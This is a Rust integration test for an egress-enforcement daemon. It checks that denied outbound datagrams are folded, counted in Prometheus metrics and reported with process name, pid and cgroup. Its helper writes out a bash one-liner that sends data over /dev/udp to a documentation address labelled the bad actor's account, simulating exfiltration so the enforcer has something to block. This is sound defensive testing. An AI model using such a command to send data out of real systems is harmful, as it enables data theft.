//! What a person is told of denials: who, where, how often.

use std::time::Duration;

use anyhow::{Context, Result};
use enforcer::control::EventRecord;
use lab::{Lab, enforcer::Enforcer, place::Place, process::Running};

use crate::{MINUTE, REGIONS};

/// Longer than the kernel folds (10 s) and the daemon then waits.
const FOLDED_WITHIN: Duration = Duration::from_secs(20);
const DENIALS: u64 = 200;

#[test]
fn denials_of_one_process_are_folded_counted_and_told_with_its_name() -> Result<()> {
    let lab = Lab::start()?;
    let enforcer = Enforcer::start(&lab, &REGIONS, "")?;
    let pid = send_many(&lab.device())?;
    let status = enforcer.told()?;
    assert_eq!(status.counters.denied(), DENIALS);
    assert_eq!(status.counters.lost_events, 0);
    assert_eq!(denials_in(&enforcer.metrics()?)?, DENIALS);

    enforcer.await_told("the folded denials are told", FOLDED_WITHIN, |_status| {
        enforcer
            .events()
            .is_ok_and(|events| told(&events) == DENIALS)
    })?;
    let events = enforcer.events()?;
    assert!(events.len() <= 2, "{events:#?}");
    let scope = lab.device_cgroup().path();
    for event in &events {
        assert_eq!(event.pid, Some(pid), "{event:?}");
        assert_eq!(event.command.as_deref(), Some("leaker"), "{event:?}");
        assert_eq!(event.uid, Some(0));
        assert_eq!(event.destination, Some("203.0.113.66".parse()?));
        assert_eq!((event.port, event.protocol.as_str()), (Some(443), "udp"));
        assert_eq!(
            (event.verdict.as_str(), event.reason.as_str()),
            ("deny", "storage")
        );
        let cgroup = event.cgroup.as_deref().context("no cgroup is told")?;
        assert!(scope.ends_with(cgroup.strip_prefix("/")?), "{event:?}");
    }
    Ok(())
}

/// One process named `leaker` that sends [`DENIALS`] datagrams to the bad actor's account; its id.
fn send_many(place: &Place) -> Result<u32> {
    let mut bash = place.command("bash");
    bash.arg("-c").arg(format!(
        "printf leaker >/proc/$$/comm
         for _ in {{1..{DENIALS}}}; do echo data >/dev/udp/203.0.113.66/443; done 2>/dev/null"
    ));
    let mut running = Running::start("leaker", bash)?;
    running.wait(MINUTE)?.context("leaker does not end")?;
    Ok(running.pid())
}

/// How many denials the events stand for.
fn told(events: &[EventRecord]) -> u64 {
    events.iter().map(|event| 1 + event.folded).sum()
}

/// The denials that the metrics count; every line has to be one that Prometheus can read.
fn denials_in(metrics: &str) -> Result<u64> {
    let mut denials = 0;
    assert_eq!(metrics.lines().last(), Some("# EOF"), "{metrics}");
    for line in metrics.lines().filter(|line| !line.starts_with("# ")) {
        let (series, value) = line.rsplit_once(' ').with_context(|| line.to_owned())?;
        let value: f64 = value.parse().with_context(|| line.to_owned())?;
        let (name, labels) = series.split_once('{').unwrap_or((series, "}"));
        assert!(name.starts_with("egress_enforcer"), "{line}");
        assert!(labels.ends_with('}'), "{line}");
        if name == "egress_enforcer_decisions_total" && labels.contains("verdict=\"deny\"") {
            denials += value as u64;
        }
    }
    Ok(denials)
}
